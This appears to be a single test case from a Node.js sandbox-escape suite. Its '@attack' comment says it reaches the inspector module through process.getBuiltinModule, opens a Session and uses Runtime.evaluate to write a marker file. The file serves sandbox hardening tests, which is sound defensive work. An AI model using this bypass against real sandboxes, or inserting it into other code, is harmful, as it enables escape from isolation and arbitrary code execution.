/* @attack {"title": "inspector reached through process.getBuiltinModule (never patched): Session + Runtime.evaluate writes TMP_MARKER"} */
const inspector = process.getBuiltinModule('inspector');
const session = new inspector.Session();
session.connect();
await new Promise((resolve, reject) =>
  session.post('Runtime.evaluate', { expression: "require('fs').writeFileSync(process.env.TMP_MARKER, 'x')", includeCommandLineAPI: true }, (err, res) =>
    err ? reject(err) : resolve(res),
  ),
);
